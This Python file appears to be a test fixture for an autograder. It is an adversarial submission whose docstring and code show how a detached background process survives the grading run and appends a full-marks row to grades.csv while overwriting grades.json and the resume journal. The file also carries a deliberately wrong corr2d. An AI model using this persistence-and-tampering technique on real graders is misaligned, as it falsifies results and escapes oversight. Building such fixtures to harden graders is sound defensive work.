"""Attack: outlive the run and rewrite the grade sheet and the journal after the grader exits.

While loading, starts `Popen(env={}, start_new_session=True)` — outside the run's process
group, without anything the grader could recognise it by — which waits for the grader to
write grades.csv, then rewrites grades.csv, grades.json and the resume journal with a row
giving itself full marks (paths as the instructor's command names them: filled in by the
test). Its own corr2d computes a convolution (a flipped kernel). The sheet must be the same
bytes seconds after the grading as when it ended, and no process of the run may survive.
(Without a sandbox too: still a child of its worker, it ends with the worker's tree.)

convcheck-attack: status=ok corr2d=fail
convcheck-attack-diagnosis: flipped-kernel
convcheck-attack-unsandboxed: status=ok corr2d=fail
"""
import subprocess
import sys

import torch

OUT = "__OUT__"
JOURNAL = "__JOURNAL__"
WAITER = f'''
import os, time
sheet = os.path.join({OUT!r}, "grades.csv")
end = time.time() + 90
while time.time() < end:
    if os.path.exists(sheet):
        time.sleep(1)
        try:
            with open(sheet, "a") as handle:
                handle.write("daemon_sheet.py,pass,2,2,ok,,bubblewrap\\n")
            with open(os.path.join({OUT!r}, "grades.json"), "w") as handle:
                handle.write("{{}}\\n")
            with open({JOURNAL!r}, "a") as handle:
                handle.write("{{}}\\n")
        except OSError:
            pass
    time.sleep(0.2)
'''

try:
    subprocess.Popen([sys.executable, "-c", WAITER], env={}, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
except OSError:
    pass


def corr2d(X, K):
    h, w = K.shape
    kernel = K.flip(0, 1)
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * kernel).sum()
    return Y
